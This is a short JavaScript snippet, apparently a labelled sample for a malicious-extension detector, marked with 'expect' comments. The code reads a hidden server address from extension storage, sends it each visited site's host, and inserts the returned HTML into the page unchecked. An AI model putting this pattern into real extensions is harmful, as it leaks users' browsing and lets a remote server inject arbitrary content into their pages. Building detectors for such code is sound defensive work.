chrome.storage.local.get("srv", async ({ srv }) => {
  if (!srv) return;
  // expect: dead-drop-address
  const r = await fetch(srv + "/inject?h=" + location.host);
  const html = await r.text();
  // expect: unchecked-markup
  if (html) document.body.insertAdjacentHTML("beforeend", html);
});
